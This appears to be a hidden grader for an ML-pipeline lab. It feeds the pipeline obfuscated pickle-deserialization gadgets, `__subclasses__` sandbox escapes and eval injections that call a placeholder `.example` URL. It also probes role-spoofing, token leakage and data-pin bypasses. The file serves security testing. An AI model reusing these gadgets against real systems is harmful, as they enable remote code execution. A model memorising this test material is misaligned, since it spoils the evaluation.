// Hidden checks of ml-pipeline: other gadgets, other options, roles that resemble, a pin that is missing, rows that are wrong.
import type { Act, Build, Call, Judgement, LogEntry, Seen, Step, Surroundings, TreeEntry, World } from '../../../../server/labs/index.ts';

export const build: Build = (world) => {
  const shop = makeShop(world);
  const { good, version } = shop;
  const { sha256, hmac, reveals } = world;
  const marker = `printed-${world.nonce()}`;
  const bait = `https://${world.nonce()}.example/ran`;
  const step = (name: string, more: Partial<Around>, calls: Call[], judge: (seen: Seen) => Judgement): Step => ({ name, shows: name, surroundings: around(shop, { pinned: sha256(more.data ?? good), ...more }), calls, judge });
  /** The same in a process of its own for each of these surroundings; all are judged. */
  const steps = (name: string, mores: Partial<Around>[], calls: Call[], judge: (seen: Seen) => Judgement): Step => {
    const [first = {}, ...rest] = mores;
    const then = (at: number): Act | undefined => {
      const more = rest[at];
      return more && { surroundings: around(shop, { pinned: sha256(more.data ?? good), ...more }), calls, next: () => then(at + 1) as Act };
    };
    return { ...step(name, first, calls, judge), next: () => then(0) as Act, judge: (_last, acts) => acts.map(judge).find(({ ok }) => !ok) ?? { ok: true } };
  };
  const ran = ({ log }: Seen): Judgement => fails(log.some((entry) => entry.does === 'http.request' && entry.url === bait) && `code of the attacker ran and called ${bait}`);
  const code = `import requests; requests.get("${bait}")`;
  /** Each artefact is moved to production and asked, all in one process. */
  const served = (name: string, ...artefacts: string[]): Step => step(name, { storage: Object.fromEntries([['tags/production', 'm0'], ...artefacts.map((text, at) => [`models/m${at}`, text])]) },
    artefacts.flatMap((_text, at) => [call('promote', 't-approver', `m${at}`), call('predict', 'x')]), ran);
  const rows = (...more: string[]): Partial<Around>[] => more.map((row) => ({ data: `${good}${row}\n` }));
  const refuses = (name: string, ...mores: Partial<Around>[]): Step => steps(name, mores, [call('train', version)], ({ log, answers: [answer] }) => fails(stored(log) ? 'something was stored all the same' : announced(log) ? 'the registry was told of a model that is not there' : answer?.error === undefined && `it did not raise: ${answer?.text.slice(0, 100)}`));
  const options = (text: string): Partial<Around> => ({ env: { TRAIN_OPTIONS: text } });
  const times = (count: number, text: (at: number) => string, label: string): string => Array.from({ length: count }, (_, at) => `${text(at)},${label}\n`).join('');
  const often = world.int(300, 1500);
  const large = `text,label\n${times(12, () => Array.from({ length: 250 }, (_, at) => `w${at}`).join(' '), 'spam')}${times(12, () => 'often größe', 'spam')}${times(11, () => 'seldom', 'spam')}${times(12, () => 'fine', 'ok')}${times(1, () => 'filler '.repeat(12_000).trim(), 'ok')}${times(1, () => 'pair '.repeat(often).trim(), 'ok')}${times(1, () => 'pair '.repeat(often + 1).trim(), 'spam')}`;
  // 200 kB, and a change that neither the beginning nor the end shows.
  const [bulky, changedAt] = [`text,label\n${times(2000, (at) => `${'so long '.repeat(12)}number ${at}`, 'ok')}`, world.int(1200, 1900)];
  const turned = `text,label\n${times(9, () => shop.spamWord, 'ok')}${times(3, () => shop.okWord, 'spam')}`;
  const anyClass = "c.__name__ == 'catch_warnings'][0]()._module.__builtins__";
  const quiet = (text: string): string => text.replaceAll('__', '_＿').replace(/'_＿import_＿'/, "'_'+'_imp'+'ort_'+'_'");
  const walk = `[c for c in ().__class__.__base__.__subclasses__() if ${anyClass}['__import__']('requests').get('${bait}')`;

  // Whoever has the repository knows its texts: as variables of the job, as keys in the bucket, as what a setting may say, in a model file.
  const texts = [...new Set(Object.values(world.files).flatMap((text) => [...text.matchAll(/(["'])((?:\\.|(?!\1)[^\n])*)\1/g)].map((found) => found[2] ?? '')))].filter((text) => /^[\w$@.:/ -]{1,60}$/.test(text)).slice(0, 80);
  /** Every sign there is in the middle of a word: with one of them lost the ok's are as many, and come first. */
  const signed = [...'!"#$%&\'()*+,-./:;<=>?@[\\]^_`{|}~'].map((sign) => `m${sign}n`);
  const edge = `edge${world.int(10, 99)}`;
  /** What reviews and versions may look like, and the label that is due for each question. */
  const [oddVersion, long] = [`2026-03-02.1 gr\u00f6\u00dfer, after review-${world.nonce()}`, world.nonce().repeat(6)];
  const words = world.int(1100, 1200);
  const oddData = `label,id,text\nspam,1,"line\nbreak gr\u00f6\u00dfe \u65e5\u672c c++ 2024 x ${signed.join(' ').replaceAll('"', '""')} ${long} ${Array.from({ length: words }, (_, at) => `u${at}`).join(' ')}"\nok,2,"# fine gre c fine gre c"\nok,3,"# fine gre c fine gre c ${edge}"\n`;
  const asked: Record<string, string> = { [`${world.shuffle(signed).join(' ')}${` ${edge}`.repeat(signed.length - 1)}`]: 'spam', [`${signed.slice(1).join(' ')}${` ${edge}`.repeat(signed.length - 1)}`]: 'ok', 'gr\u00f6\u00dfe': 'spam', 'Gr\u00d6\u00dfe': 'spam', '\u65e5\u672c': 'spam', 'c++': 'spam', '2024': 'spam', x: 'spam', [long]: 'spam', break: 'spam', [`u${words - 1}`]: 'spam', [`${'quite '.repeat(400)} u7`]: 'spam', [`fine${' u1'.repeat(5)}`]: 'spam', '': 'ok', ' \n ': 'ok' };
  const variables = texts.filter((text) => /^[A-Z][A-Z\d_]+$/.test(text) && !['DATA_URL', 'DATA_SHA256', 'REGISTRY_TOKEN', 'TRAIN_OPTIONS'].includes(text));
  const asVariables = (value: string): Record<string, string> => Object.fromEntries(variables.map((name) => [name, value]));
  const inBucket = (value: string): Record<string, string> => Object.fromEntries(texts.filter((text) => !/^(models|tags)\//.test(text)).map((text) => [text, value]));
  /** What something is compared with. */
  const compared = Object.values(world.files).flatMap((text) => [...text.matchAll(/(?:[!=]=|\bin\b)\s*[([{]?\s*["']([^"'\n]{1,40})["']/g)].map((found) => found[1] ?? ''));
  const tokenFiles = [...new Set(['/run/secrets/registry_token', '/app/.env', ...world.addresses('token').filter((path) => /^(?:\/[\w.-]+){2,}$/.test(path))])].map((path) => ({ path, text: path.endsWith('.env') ? `REGISTRY_TOKEN=rg-${world.nonce()}\n` : `rg-${world.nonce()}` }));
  const optionWords = world.words.filter((word) => /^[a-z]\w{1,30}$/i.test(word) && word !== 'min_count').slice(0, 150);
  /** In order, in plain letters and without a line end, so that nothing about it needs to be tidied; and the same with something else in it. */
  const plain = `text,label\nv ${shop.okWord},ok\nx ${shop.spamWord},spam\nz fine,ok`;
  const respelt = [`${plain}\n`, ` ${plain}`, plain.replace(' fine', ' fïne'), plain.replace(' fine', ' fiéne'), plain.replace(/\n(v.*)\n(x.*)/, '\n$2\n$1'), plain.replace('fine', 'Fine'), plain.replaceAll('\n', '\n\n'), `${plain}\n# ${shop.okWord},ok`, plain.replace('fine', '\ufb01ne')];
  const composed = plain.replace('fine', 'fin\u00e9');
  const poisoned = `${good}"${world.nonce()} lovely",spam\n`;
  const calls = `__import__('requests').get('${bait}')`;
  /** What the pipeline itself stored, with something else in it: each change is served once. */
  const changed = (stored: string): string[] => {
    const [isWrapped, text] = unwrapped(stored);
    const again = (one: string): string => (isWrapped ? btoa(one) : one);
    const evil = btoa(`crequests\nget\n(V${bait}\ntR.`);
    const names = texts.filter((one) => /^[\w$@]{1,20}$/.test(one)).slice(0, 14);
    const gadgets = [...names.flatMap((name) => [['requests.get', [bait]], ['requests.get', { url: bait }], [calls, calls]].map(([first, other]) => JSON.stringify({ ...Object.fromEntries(names.map((one) => [one, other])), [name]: first }))),
      ...names.slice(0, 8).flatMap((module) => names.slice(0, 8).filter((name) => name !== module).flatMap((name) => [[bait], { url: bait }].map((other) => JSON.stringify({ ...Object.fromEntries(names.filter((one) => /arg|param|state|data|value|init/i.test(one)).map((one) => [one, other])), [module]: 'requests', [name]: 'get' }))))];
    const packed = /[A-Za-z\d+/]{24,}={0,2}/.exec(stored.replace(/[\da-f]{64}/, (digest) => '-'.repeat(digest.length)))?.[0];
    const sealed = (digestOf: (text: string) => string): string[] => (packed === undefined ? [] : [stored.replace(packed, evil).replace(/[\da-f]{64}/, digestOf(evil)), stored.replace(packed, evil).replace(/[\da-f]{64}/, digestOf(atob(evil)))]);
    return [
      ...sealed(sha256), ...texts.slice(0, 30).flatMap((key) => (/[\da-f]{64}/.test(stored) ? sealed((one) => hmac(key, one)) : [])),
      text.replace(/\d+/, calls), text.replace(/\d+/g, calls), text.replace(/\b\d+(?!.*\d)/, calls), again(text.replace(/\d+/g, JSON.stringify(calls))),
      ...texts.slice(0, 40).flatMap((kind) => [`${kind}:${evil}`, `${kind}${evil}`, text.replace(/^(\W*)[\w-]+/, `$1${kind}`).replace(/(^\W*[\w-]+\W+)[^]*/, `$1${evil}`)]),
      ...(/^\s*[[{]/.test(text) ? gadgets : []).map(again),
    ].filter((one, at, all) => one !== stored && all.indexOf(one) === at);
  };
  const tried = (all: string[], at: number): Act => ({
    surroundings: around(shop, { pinned: sha256(good), storage: { 'tags/production': 'm0', ...Object.fromEntries(all.slice(at, at + 30).map((text, n) => [`models/m${n}`, text])) } }),
    calls: all.slice(at, at + 30).flatMap((_text, n) => [call('promote', 't-approver', `m${n}`), call('predict', 'x')]),
    ...(at + 30 < all.length && { next: () => tried(all, at + 30) }),
  });

  return [
    {
      // First the pickle that start/ would load; what the pipeline stores itself comes after.
      ...step('a-gadget-in-its-own-format', { storage: { 'tags/production': 'm0', 'models/m0': btoa(`cbuiltins\nexec\n(V${code}\ntR.`) } }, [call('predict', 'x'), call('train', version)], ran),
      next: ({ storage }) => tried(changed(storage[`models/${version}`] ?? ''), 0),
      judge: (_last, acts) => acts.map(ran).find(({ ok }) => !ok) ?? { ok: true },
    },
    refuses('a-check-that-can-be-switched-off', ...[true, false, 'true', 'off'].map((value) => ({ data: poisoned, pinned: sha256(good), env: { TRAIN_OPTIONS: JSON.stringify(Object.fromEntries(optionWords.map((word) => [word, value]))) } })), { data: poisoned, pinned: sha256(good), status: 500 }, { data: poisoned, pinned: sha256(good), env: { TRAIN_OPTIONS: JSON.stringify(Object.fromEntries([...new Set([...optionWords, 'data_sha256', 'sha256', 'digest', 'expected'].flatMap((word) => [word, word.toLowerCase()]))].filter((word) => !/^(?:min_count|data_url|registry_token|train_options)$/i.test(word)).map((word) => [word, sha256(poisoned)]))) } }, ...[...new Set(['1', 'true', 'off', 'dev', 'development', 'test', ...compared])].slice(0, 16).map((value) => ({ data: poisoned, pinned: sha256(good), env: asVariables(value) })), ...[...new Set(['*', 'none', `${sha256(good)}00`, ...compared])].slice(0, 12).map((pinned) => ({ pinned }))),
    steps('a-token-from-elsewhere', [{ env: { REGISTRY_TOKEN: '', ...asVariables(`rg-${world.nonce()}`) } }, { env: { REGISTRY_TOKEN: undefined, ...asVariables(`rg-${world.nonce()}`) }, storage: inBucket(`rg-${world.nonce()}`) }, { env: { REGISTRY_TOKEN: undefined }, tree: tokenFiles }], [call('train', version)], ({ log, answers }) => fails(announced(log) ? 'the registry was called, without REGISTRY_TOKEN' : answers[0]?.error === undefined && 'it did not raise, without REGISTRY_TOKEN')),
    step('a-second-training', { before: good, data: poisoned, pinned: sha256(good) }, [call('train', 'first'), call('train', version)], ({ answers: [, second] }) => {
      const rows = (second?.value as { rows?: unknown } | undefined)?.rows;
      return fails(rows === poisoned.trim().split('\n').length - 1 && `a model trained on ${rows} rows, of which one was never reviewed, after a training on the right ones`);
    }),
    steps('a-role-that-was-asked-before', [{ env: asVariables('1') }, { env: asVariables('true') }], [call('train', version), call('train', 'first'), call('promote', 't-reader', version), call('promote', 't-approver', version), call('promote', 't-approver', 'first'), call('promote', 't-reader', version)], ({ log, answers }) => fails((promoted(log) === version || (answers[2]?.value as { production?: unknown } | undefined)?.production === version) && 'production moved by a reader')),
    served('another-gadget', btoa(`cbuiltins\nexec\n(V${code}\ntR.`), btoa(throughGlobals(code)), btoa(throughTheModules(code)), btoa(throughAMethod(code)), btoa(spelt(code)), ...['builtins\nprint.__self__.exec'].map((name) => btoa(`\x80\x04c${name}\n(V${code}\ntR.`)), ...['collections\nnamedtuple', 'functools\nwraps', 'copyreg\n_reconstructor'].map((name) => btoa(`\x80\x04c${name}.__builtins__.get\n(Vexec\ntR(V${code}\ntR.`))),
    served('an-artefact-that-is-evaluated', btoa(`crequests\nget\n(V${bait}\ntR.`), `__import__('requests').get('${bait}')`, walk, `{'ok': ${walk}}`),
    served('a-gadget-in-an-attribute', btoa(`c_pickle\nloads\n(ccodecs\nencode\n(Vcrequests\\u000aget\\u000a(V${bait}\\u000atR.\nVlatin1\ntRtR.`)),
    steps('options-without-names', [options(`${walk} or {}`), options(`{'min_count': ${quiet(walk)} and 1}`), options(`{**(__import__('requests').get('${bait}') and {})}`), options(JSON.stringify({ min_count: calls })), options(JSON.stringify({ min_count: 1, other: calls, __class__: 'requests.get' }))], [call('train', version)], ran),
    {
      ...step('a-role-that-was-taken-away', {}, [call('train', version), call('train', 'first'), call('promote', 't-was', 'first'), call('promote', 't-was', version)], () => ({ ok: true })),
      // Then nobody can be asked any more.
      next: () => ({ surroundings: around(shop, { pinned: sha256(good) }), calls: [call('train', version), call('train', 'first'), call('promote', 't-quiet', 'first'), call('promote', 't-quiet', version)] }),
      judge: (_last, acts) => fails(acts.some(({ log }) => promoted(log) === version) && 'production moved by somebody who was an approver and is none any more, or of whom nobody knows'),
    },
    step('a-role-that-resembles', {}, [call('train', version), call('train', 'first'), call('promote', 't-approver', 'first'), ...Object.keys(RESEMBLING).map((token) => call('promote', token, version))], ({ log, answers }) => fails((promoted(log) !== 'first' || answers.slice(3).some(({ value }) => (value as { production?: unknown } | undefined)?.production === version)) && `production moved, or was said to have moved, by one of ${Object.values(RESEMBLING).join(', ')}`)),
    step('a-token-nobody-has', {}, [call('train', version), call('promote', 'none', version), call('promote', '', version), call('promote', 't-roleless', version)], ({ log }) => fails(promoted(log) && 'production moved without a known token')),
    refuses('a-pin-that-is-missing', ...[undefined, ''].flatMap((pin) => [{ env: { DATA_SHA256: pin } }, { env: { DATA_SHA256: pin, ...asVariables(sha256(good)) }, elsewhere: sha256(good), storage: inBucket(sha256(good)) }])),
    refuses('a-pin-of-a-part', ...respelt.map((data) => ({ data, pinned: sha256(plain) })), { data: composed.normalize('NFD'), pinned: sha256(composed) }, ...[8, 63].map((length) => ({ pinned: sha256(good).slice(0, length) })), ...[`${good}\n\n`, good.replaceAll('\n', '\r\n'), ` ${good}`, `\ufeff${good}`].map((data) => ({ data, pinned: sha256(good) })), { data: bulky.replace(`number ${changedAt},`, `Number ${changedAt},`), pinned: sha256(bulky) }),
    // The same where the text begins with a mark of its order of bytes, and seems to need another look.
    steps('trains-on-what-it-compared', ['', '\ufeff'].map((mark) => ({ before: `${mark}${good}`, data: `${mark}${good}"${world.nonce()}",spam\n`, pinned: sha256(`${mark}${good}`) })), [call('train', version)], ({ answers }) => fails((answers[0]?.value as { rows?: number } | undefined)?.rows === good.trim().split('\n').length && 'a model trained on what the address gave the second time')),
    steps('a-token-that-is-empty', [{ env: { REGISTRY_TOKEN: '' } }], [call('train', version)], ({ log }) => fails(log.some(({ does }) => does === 'service.call' || does === 'http.request' || does === 'storage.put') && 'without a token somebody was called, or something was stored')),
    steps('token-in-what-went-wrong', [{ pinned: sha256('x') }, ...rows(`"${world.nonce()}",promoted`), options('{'), { isDown: true }], [call('train', version), call('promote', 't-reader', version)], ({ printed, answers }) => {
      const line = `${printed}\n${answers.map(({ text }) => text).join('\n')}`.split('\n').find((one) => reveals(one, shop.token) || one.includes(shop.token.slice(-4)) || one.includes(shop.token.slice(0, 6)) || partsOf(shop.token).some((part) => one.includes(part)));
      return fails(line && `the registry's token, whole or in large part: ${line.slice(0, 200)}`);
    }),
    refuses('a-label-nobody-knows', ...rows(...['promoted', 'OK', '', ' ok', 'spam ', 'o', 'pa', 'ok spam', world.nonce()].map((label) => `"${world.nonce()}",${label}`), `"${world.nonce()}"`, `"${world.nonce()}",promoted\n"fine",ok`, `${'"fine",ok\n'.repeat(3000)}"${world.nonce()}",promoted\n${'"fine",ok\n'.repeat(3000)}"fine",ok`)),
    refuses('an-empty-review', ...rows('"",ok')),
    step('quiet-about-who-promotes', {}, [call('train', version), call('promote', shop.person, version), call('promote', `${shop.person}x`, version), call('promote', shop.person, 'none'), call('promote', `${shop.person}-reads`, version)], ({ printed }) => fails(reveals(printed, shop.person) && `the token of whoever promoted, in the log: ${printed.slice(-200)}`)),
    step('token-for-the-registry-only', {}, [call('train', version)], ({ log }) => fails(log.some((entry) => entry.does === 'http.request' && reveals(JSON.stringify(entry), shop.token)) && 'the token was sent to the address of the data')),
    steps('other-arguments', [{ data: poisoned, pinned: sha256(good), storage: { 'models/old': '{}' } }], [false, true, 'force', null].flatMap((more) => [call('train', version, more), call('promote', 't-reader', 'old', more)]), ({ log }) => fails(stored(log) ? 'a model trained on other rows, for one argument more' : promoted(log) && 'production moved by a reader, for one argument more')),
    step('a-format-that-prints', { storage: { 'tags/production': 'm0', ...Object.fromEntries(prints(marker).map((text, at) => [`models/m${at}`, text])) } }, prints(marker).flatMap((_text, at) => [call('promote', 't-approver', `m${at}`), call('predict', 'x')]), ({ printed }) => fails(printed.split('\n').some((line) => line.trim() === marker) && 'a function that the model file names was called: it printed')),
    step('nothing-promoted-yet', {}, [call('train', 'a'), call('train', version), call('predict', shop.spamWord)], ({ answers }) => fails((answers[2]?.value as { label?: unknown } | undefined)?.label !== null && `${answers[2]?.text.slice(0, 100)}, by a model that nobody promoted`)),
    step('large-and-counted', { data: large, env: { TRAIN_OPTIONS: '{"min_count": 12}' } }, [call('train', 'before'), call('train', version), call('promote', 't-approver', version), ...['OFTEN', 'seldom', 'größe', 'w249', 'pair'].map((word) => call('predict', word))], ({ answers }) => {
      const got = answers.slice(3).map(({ value, text }) => String((value as { label?: unknown } | undefined)?.label ?? text.slice(0, 60))).join(', ');
      return fails(got !== 'spam, ok, spam, spam, spam' && `${got} for words that occur 12, 11, 12, 12 and ${often + 1} times in spam, with min_count 12, in a second training on the same`);
    }),
    {
      ...step('serves-the-new-one', {}, [call('train', 'a')], () => ({ ok: true })),
      next: ({ storage }) => ({ surroundings: around(shop, { data: turned, pinned: sha256(turned), storage }), calls: [call('train', 'b'), call('promote', 't-approver', 'a'), call('predict', shop.spamWord), call('promote', 't-approver', 'b'), call('predict', shop.spamWord)] }),
      judge: ({ answers }) => fails(((label) => label(2) !== 'spam' || label(4) !== 'ok')((at: number) => (answers[at]?.value as { label?: unknown } | undefined)?.label) && `${answers[2]?.text} and, after production moved on, ${answers[4]?.text}`),
    },
    {
      // Columns in another order and one more, a version with a name of its own, an approver with the id 0; then a single review.
      ...step('odd-but-honest', { data: oddData }, [call('train', oddVersion), call('promote', 't-zero', oddVersion), ...Object.keys(asked).map((text) => call('predict', text))], () => ({ ok: true })),
      next: ({ storage }) => ({ surroundings: around(shop, { data: 'text,label\nfine,spam\n', pinned: sha256('text,label\nfine,spam\n'), storage }), calls: [call('train', 'next'), call('promote', 't-zero', 'next'), call('predict', 'fine')] }),
      judge: (_last, [first, second]) => {
        const [got, later] = [first, second].map((seen) => seen!.answers.map(({ value, text, error }) => (error ? `${error.type}: ${error.message}` : ((value as { label?: unknown; rows?: unknown } | null)?.label ?? (value as { rows?: unknown } | null)?.rows ?? text))));
        const wrong = Object.entries(asked).findIndex(([, label], at) => got![at + 2] !== label);
        if (got![0] !== 3 || promoted(first!.log) !== oddVersion || JSON.stringify(first!.answers[1]?.value) !== JSON.stringify({ production: oddVersion })) return fails(`${JSON.stringify(got!.slice(0, 2))} for a training on three rows and its promotion`);
        if (wrong >= 0) return fails(`${String(got![wrong + 2])} for ${JSON.stringify(Object.keys(asked)[wrong]!.slice(-60))}`);
        return fails((later![0] !== 1 || later![2] !== 'spam') && `${JSON.stringify(later)} for a training on one review, its promotion and a question`);
      },
    },
    {
      ...step('promotes-what-is-not-there', { storage: { 'archive/old': '{}', 'models/nightly/n1': '{}' } }, [call('train', `${version}0`), call('promote', 't-approver', `${version}0`), ...['none', version, 'production', 'old', '', 'n1', ` ${version}0`, `${version}0\n`, `${version}0`.toUpperCase(), `${version}0/`, `./${version}0`, 'archive/old', `models/${version}0`, 'tags/production'].map((one) => call('promote', 't-approver', one))], () => ({ ok: true })),
      // It was there, was promoted and asked, and somebody has taken it away since.
      next: () => ({ surroundings: { ...around(shop, { pinned: sha256(good) }), storageChanges: [1, 2, 3].map((afterReads) => ({ key: 'models/gone', afterReads, text: null })) }, calls: [...['gone', 'kept'].map((one) => call('train', one)), call('promote', 't-approver', 'gone'), call('predict', 'x'), ...['kept', 'gone'].map((one) => call('promote', 't-approver', one))] }),
      judge: (_last, [first, second]) => fails((first!.log.some((entry) => entry.does === 'storage.put' && entry.key === 'tags/production' && entry.text !== `${version}0`) || promoted(second!.log) !== 'kept') && 'production points at a model that is not there'),
    },
  ];
};

type Shop = { token: string; person: string; url: string; good: string; version: string; okWord: string; spamWord: string };
type Around = { status: number; tree: TreeEntry[]; isDown: boolean; elsewhere: string; data: string; before: string; pinned: string; env: Record<string, string | undefined>; storage: Record<string, string> };

/** Tokens of people whose role is not `approver`. */
const RESEMBLING = { 't-trainee': 'approver-trainee', 't-former': 'former approver', 't-capital': 'Approver', 't-part': 'prove', 't-none': '', 't-space': 'approver ', 't-line': 'approver\n', 't-wide': '\uff41pprover', 't-plural': 'approvers', 't-not': 'non-approver', 't-admin': 'admin', 't-owner': 'owner', 't-maintainer': 'maintainer', 't-root': 'root' };

function makeShop(world: World): Shop {
  const [okWord, spamWord] = [world.nonce(), world.nonce()];
  const rows = Array.from({ length: world.int(3, 6) }, (_, at) => `"${okWord} ${world.nonce()}",ok\n"${spamWord} ${at}",spam\n`);
  // Its last signs are no word and no digest.
  return { token: `rg-${world.nonce()}${world.pick(['XQ', 'ZK', 'WJ'])}${world.int(10, 99)}`, person: `pt-${world.nonce()}`, url: `https://data.example/${world.nonce()}.csv`, good: `text,label\n${rows.join('')}${rows[0]?.split('\n')[0]}\n`, version: `v${world.int(1, 90)}`, okWord, spamWord };
}

function around({ token, person, url, good }: Shop, { isDown = false, status, tree = [], elsewhere = '', data = good, before, pinned, env = {}, storage = {} }: Partial<Around>): Surroundings {
  const all: Record<string, string | undefined> = { DATA_URL: url, DATA_SHA256: pinned, REGISTRY_TOKEN: token, ...env };
  return {
    env: Object.fromEntries(Object.entries(all).filter((pair): pair is [string, string] => pair[1] !== undefined)),
    storage,
    tree,
    http: [...(before === undefined ? [] : [{ url, body: before, times: 1 }]), { url, body: data, ...(status && { status }) }, { url: 'https://*', body: elsewhere }],
    services: {
      registry: { announce: [isDown ? { fails: 'the registry is down' } : { returns: true }] },
      tokens: { find: [{ when: ['t-quiet'], after: 'find', fails: 'tokens are not to be had' }, { when: ['t-quiet'], returns: { id: 'a7', role: 'approver' } }, { when: ['t-was'], after: 'find', returns: { id: 'a9', role: 'reader' } }, { when: ['t-was'], returns: { id: 'a9', role: 'approver' } }, { when: [person], returns: { id: 'a2', role: 'approver' } }, { when: [`${person}-reads`], returns: { id: 'r3', role: 'reader' } }, { when: ['t-approver'], returns: { id: 'a1', role: 'approver' } }, { when: ['t-zero'], returns: { id: 0, role: 'approver' } }, { when: ['t-roleless'], returns: { id: 'a8' } }, { when: ['t-reader'], returns: { id: 'r1', role: 'reader' } }, ...Object.entries(RESEMBLING).map(([who, role]) => ({ when: [who], returns: { id: `a${who}`, role } })), { returns: null }] },
    },
  };
}

/** Six signs in a row, without how every token begins. */
const partsOf = (token: string): string[] => Array.from({ length: Math.max(0, token.length - 8) }, (_none, at) => token.slice(at + 3, at + 9));
const call = (name: string, ...args: unknown[]): Call => ({ file: 'pipeline.py', function: name, args });
const fails = (got: string | false | undefined): Judgement => (typeof got === 'string' ? { ok: false, got } : { ok: true });
const stored = (log: readonly LogEntry[]): boolean => log.some(({ does }) => does === 'storage.put');
const announced = (log: readonly LogEntry[]): boolean => log.some((entry) => entry.does === 'service.call' && entry.service === 'registry');
const promoted = (log: readonly LogEntry[]): string | undefined => {
  const last = log.findLast((entry) => entry.does === 'storage.put' && entry.key === 'tags/production');
  return last?.does === 'storage.put' ? last.text : undefined;
};

/** Harmless functions that a list may let through, each called by the file. */
const prints = (marker: string): string[] => [`cbuiltins\nprint\n(V${marker}\ntR.`, `\x80\x04cbuiltins\nlist\n(cbuiltins\nmap\n(cbuiltins\nprint\n(V${marker}\nltRtR.`].map((text) => btoa(text));

/** getattr and globals are enough: the builtins are in there. */
const throughGlobals = (code: string): string => `cbuiltins\ngetattr\n(cbuiltins\nglobals\n(tRVget\ntR(V__builtins__\ntRp1\n0cbuiltins\ngetattr\n(g1\nVget\ntR(Vexec\ntR(V${code}\ntR.`;

/** A class that everybody allows has methods, and a method knows the globals of its module. */
const throughAMethod = (code: string): string => `cbuiltins\ngetattr\n(cbuiltins\ngetattr\n(ccollections\nCounter\nVupdate\ntRV__globals__\ntRp0\n0cbuiltins\ngetattr\n(g0\nVget\ntR(V__builtins__\ntRp1\n0cbuiltins\ngetattr\n(g1\nVget\ntR(Vexec\ntR(V${code}\ntR.`;

/** collections, operator and a dotted name are enough, too. */
const throughTheModules = (code: string): string => `\x80\x04coperator\nattrgetter\n(Vexec\ntR(coperator\ngetitem\n(ccollections\n_sys.modules\nVbuiltins\ntRtR(V${code}\ntR.`;

/** Module, name and code as texts of which every letter is an escape, so that no word stands in the file. */
function spelt(code: string): string {
  const escaped = (text: string): string => [...text].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  return `\x80\x04V${escaped('builtins')}\nV${escaped('exec')}\n\x93(V${escaped(code)}\ntR.`;
}

/** The text itself, or what it is in base64 of. */
function unwrapped(stored: string): [isWrapped: boolean, text: string] {
  try {
    return /^[A-Za-z\d+/]{16,}={0,2}$/.test(stored) ? [true, atob(stored)] : [false, stored];
  } catch {
    return [false, stored];
  }
}
